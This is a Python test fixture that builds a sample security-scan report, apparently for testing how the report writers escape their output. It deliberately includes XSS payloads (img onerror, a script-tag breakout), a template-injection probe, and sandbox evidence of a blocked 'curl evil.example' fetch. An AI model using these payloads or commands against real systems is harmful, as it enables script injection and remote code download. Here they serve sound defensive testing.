"""A fixed, fully merged Report for the writer tests (golden files, properties, the browser test)."""

from __future__ import annotations

from airlock.pipeline.fingerprint import assign
from airlock.pipeline.gate import evaluate
from airlock.pipeline.merge import dedup
from airlock.pipeline.models import (
    Anchor,
    Finding,
    GateResult,
    Report,
    Severity,
    StageResult,
    Suppression,
    Target,
    ToolRun,
    ToolStatus,
)
from airlock.pipeline.policy import GatePolicy

HOSTILE_PATH = "<img src=x onerror=alert(1)>.py"
HOSTILE_MESSAGE = "</script><script>window.__pwned=1</script> | [click](https://evil.example) @admin #1 ::error::x"

RUNS = {
    "sast": [
        ToolRun("semgrep", ToolStatus.OK, "1.185.0", 3.2, "", (), 3),
        ToolRun("bandit", ToolStatus.OK, "1.9.4", 1.1, "", (), 3),
    ],
    "iac": [ToolRun("checkov", ToolStatus.OK, "3.2.0", 6.5, "", (), 1)],
    "image": [],
    "runtime": [ToolRun("sandbox", ToolStatus.OK, "0.1.0", 4.0, "", (), 1)],
}


def findings() -> list[Finding]:
    raw = assign([
        Finding("sast", "bandit", "B602", "subprocess call with shell=True identified, security issue.",
                Severity.HIGH, "app/run.py", 12, 12, title="subprocess popen with shell equals true",
                snippet="    return subprocess.call(cmd, shell=True)", cwe=("CWE-78",)),
        Finding("sast", "semgrep", "airlock.python.subprocess-shell", "A shell runs an agent-built string.",
                Severity.HIGH, "app/run.py", 12, 12, snippet="    return subprocess.call(cmd, shell=True)",
                cwe=("CWE-78",)),
        Finding("sast", "bandit", "B307", "Use of possibly insecure function - consider using ast.literal_eval.",
                Severity.MEDIUM, "app/calc.py", 4, 4, snippet="value = eval(expr)", cwe=("CWE-78",), new=False),
        Finding("sast", "bandit", "B105", "Possible hardcoded password: 'ha********'", Severity.LOW, "app/settings.py",
                2, 2, snippet="PASSWORD = 'ha********'", cwe=("CWE-259",),
                suppression=Suppression("waiver", "test fixture only (owner alice, until 2030-01-31)")),
        Finding("sast", "semgrep", "airlock.python.pickle-load", HOSTILE_MESSAGE, Severity.HIGH, HOSTILE_PATH, 1, 2,
                snippet="data = pickle.loads(blob)  # </script><img src=x onerror=alert(2)>\nprint('{{ 7*7 }}')",
                cwe=("CWE-502",)),
        Finding("sast", "semgrep", "airlock.python.yaml-load", "yaml.load without SafeLoader", Severity.MEDIUM,
                "app/conf.py", 9, 9, snippet="cfg = yaml.load(f)  # nosemgrep", cwe=("CWE-502",),
                suppression=Suppression("inline", "nosemgrep comment")),
        Finding("iac", "checkov", "CKV_AWS_20", "S3 Bucket has an ACL defined which allows public READ access.",
                Severity.HIGH, "infra/main.tf", 1, 8,
                snippet='resource "aws_s3_bucket" "logs" {\n  acl = "public-read"\n}',
                help_url="https://docs.prismacloud.io/en/enterprise-edition/policy-reference"),
        Finding("runtime", "sandbox", "runtime.net.egress-blocked", "the test command tried to reach the network",
                Severity.MEDIUM, "", evidence=(
                    "command[0]: python -m pytest",
                    "process: python -m pytest -> sh -c curl evil.example -> curl https://evil.example/x",
                    "proxy: CONNECT evil.example:443 -> refused (403)", "dns query type=A name='evil.example'"),
                anchor=Anchor("airlock.toml", 7, "declared here")),
        Finding("agent", "airlock", "agent.policy-change",
                "this change edits the airlock policy (airlock.toml); the gate keeps using the base revision's "
                "version", Severity.HIGH, "airlock.toml", 2, 2, snippet="edits airlock.toml"),
    ])
    return sorted(dedup(raw), key=lambda f: (-f.severity, f.stage, f.path, f.start_line, f.rule_id))


def sample_report(fs: list[Finding] | None = None, gate: GateResult | None = None) -> Report:
    fs = findings() if fs is None else fs
    gate = gate or evaluate(GatePolicy(fail_on=Severity.HIGH, stage_fail_on={"runtime": Severity.MEDIUM}), fs, RUNS)
    gate = GateResult(gate.verdict, gate.reasons, (*gate.warnings, "waiver #2 expired on 2024-01-01"),
                      gate.failing_stages, gate.errored_stages, gate.gating)
    stages = tuple(
        StageResult(name, "skipped" if not runs else ("failed" if name in gate.failing_stages else "passed"),
                    max((r.duration_s for r in runs), default=0.0), tuple(runs))
        for name, runs in RUNS.items()
    )
    return Report(
        airlock_version="0.1.0",
        generated_at="2025-06-01T12:00:00+00:00",
        target=Target(root="/repo", mode="diff", base="a" * 40, head="b" * 40, files=7),
        gate=gate,
        stages=stages,
        findings=tuple(fs),
        notes=("semgrep: Syntax error in broken.py (skipped)",),
        fail_on="high",
        policy_source="airlock.toml (from the base revision)",
    )
